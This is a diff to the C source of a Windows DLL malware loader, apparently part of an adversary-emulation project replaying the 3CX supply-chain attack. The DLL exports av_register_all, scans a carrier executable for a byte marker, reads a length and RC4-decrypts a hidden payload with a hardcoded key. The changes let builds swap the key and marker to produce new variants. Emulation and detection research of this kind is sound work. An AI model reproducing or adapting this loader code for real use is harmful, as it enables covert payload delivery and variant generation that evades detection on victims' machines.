@@ -26,8 +26,28 @@
 #define WIN32_LEAN_AND_MEAN
 #include <windows.h>
 
+/* Variant builds (chainreplay variant, scenarios/3cx/variant.toml) override these with -D;
+ * the defaults build the committed sample. */
+#ifdef RC4_KEY_BYTES
+static const unsigned char rc4_key_bytes[] = {RC4_KEY_BYTES};
+#define RC4_KEY     rc4_key_bytes
+#define RC4_KEY_LEN sizeof(rc4_key_bytes)
+#else
 #define RC4_KEY     "3jB(2bsG#@c7"
 #define RC4_KEY_LEN 12
+#endif
+#ifdef CARRIER_MARKER_BYTES
+static const unsigned char carrier_marker[4] = {CARRIER_MARKER_BYTES};
+#define CARRIER_MARKER_0 carrier_marker[0]
+#define CARRIER_MARKER_1 carrier_marker[1]
+#define CARRIER_MARKER_2 carrier_marker[2]
+#define CARRIER_MARKER_3 carrier_marker[3]
+#else
+#define CARRIER_MARKER_0 0xFE
+#define CARRIER_MARKER_1 0xED
+#define CARRIER_MARKER_2 0xFA
+#define CARRIER_MARKER_3 0xCE
+#endif
 
 static HMODULE g_self;
 
@@ -132,11 +152,12 @@ __declspec(dllexport) void av_register_all(void)
     if (buf[0] != 'M' || buf[1] != 'Z')
         return;
 
-    /* Scan for FE ED FA CE, then uint32 LE length, then the RC4 payload. */
+    /* Scan for the marker (FE ED FA CE), then uint32 LE length, then the RC4 payload. */
     payload = NULL;
     plen = 0;
     for (i = 0; i + 8 <= size; i++) {
-        if (buf[i] == 0xFE && buf[i + 1] == 0xED && buf[i + 2] == 0xFA && buf[i + 3] == 0xCE) {
+        if (buf[i] == CARRIER_MARKER_0 && buf[i + 1] == CARRIER_MARKER_1 && buf[i + 2] == CARRIER_MARKER_2 &&
+            buf[i + 3] == CARRIER_MARKER_3) {
             plen = (DWORD)buf[i + 4] | ((DWORD)buf[i + 5] << 8) |
                    ((DWORD)buf[i + 6] << 16) | ((DWORD)buf[i + 7] << 24);
             if (plen == 0 || plen > size - (i + 8))
